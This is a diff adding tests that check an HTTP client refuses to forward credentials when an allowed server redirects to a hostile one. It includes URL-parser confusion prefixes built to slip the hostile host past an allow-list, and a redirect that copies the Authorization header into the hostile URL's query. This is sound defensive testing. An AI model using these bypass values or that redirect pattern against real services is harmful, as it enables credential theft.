@@ -204,6 +204,22 @@ describe(`a hostile server (${transportsTested})`, () => {
         }).pipe(Effect.provide(testStore))
     )
 
+    it.live("so does one whose address only a parser sees to be elsewhere", () =>
+      Effect.gen(function*() {
+        const { evil, good } = yield* goodAndEvil
+        const client = yield* clientOf(transport, { ref: "hubspot", allowedHosts: allowed(good) })
+        const { host } = new URL(evil.url)
+        const places = ["//", "\\\\", "/\\", "\\/", "/\t/", "http:\t//", "http:\\\\", "HTTP://"].map((start) =>
+          start + host
+        )
+        for (const place of places) {
+          good.script(redirect(302, place))
+          assert.deepStrictEqual(yield* (yield* client.get(`${good.url}/start`)).json, { from: "evil" }, place)
+        }
+        assert.strictEqual(evil.requests.length, places.length)
+        assert.isFalse(evil.requests.some(holdsCredential))
+      }).pipe(Effect.provide(testStore)))
+
     it.live("neither does what the program had in the credential's header go there", () =>
       Effect.gen(function*() {
         const { evil, good } = yield* goodAndEvil
@@ -284,6 +300,41 @@ describe(`a hostile server (${transportsTested})`, () => {
           assert(error._tag === "CredentialHostDenied", inspect(error))
           assert.notInclude(error.message, name)
         }
+        assert.strictEqual(evil.connections(), 0)
+      }).pipe(Effect.provide(testStore)))
+
+    it.live("nor one that repeats the header of a user name and a password", () =>
+      Effect.gen(function*() {
+        const { evil, good } = yield* goodAndEvil
+        const client = yield* clientOf(transport, { ref: "jira", allowedHosts: allowed(good) })
+        for (const encoded of [encodeURIComponent, (text: string) => text.replace(" ", "+")]) {
+          good.script((response, { headers }) => {
+            response.writeHead(302, { location: `${evil.url}/?was=${encoded(headers.authorization ?? "")}` }).end()
+          })
+          const error = yield* Effect.flip(client.get(good.url))
+          assert(error._tag === "CredentialHostDenied", inspect(error))
+        }
+        assert.strictEqual(evil.connections(), 0)
+      }).pipe(Effect.provide(testStore)))
+
+    it.live("a user name, or a letter in place of a password, is no secret: a redirect whose URL holds it is followed", () =>
+      Effect.gen(function*() {
+        const { evil, good } = yield* goodAndEvil
+        for (const ref of ["mailgun", "freshdesk"]) {
+          good.script(redirect(302, `${evil.url}/api/xml/7`))
+          const client = yield* clientOf(transport, { ref, allowedHosts: allowed(good) })
+          const response = yield* client.get(good.url)
+          assert.deepStrictEqual(yield* response.json, { from: "evil" })
+        }
+        assert.isFalse(evil.requests.some(holdsCredential))
+      }).pipe(Effect.provide(testStore)))
+
+    it.live("a key that an API takes as the user name is one", () =>
+      Effect.gen(function*() {
+        const { evil, good } = yield* goodAndEvil
+        good.script(redirect(302, `${evil.url}/?was=Sd8fK2mQ0xZr7LpT4vWn`))
+        const client = yield* clientOf(transport, { ref: "freshdesk", allowedHosts: allowed(good) })
+        assert.strictEqual((yield* Effect.flip(client.get(good.url)))._tag, "CredentialHostDenied")
         assert.strictEqual(evil.connections(), 0)
       }).pipe(Effect.provide(testStore)))
 
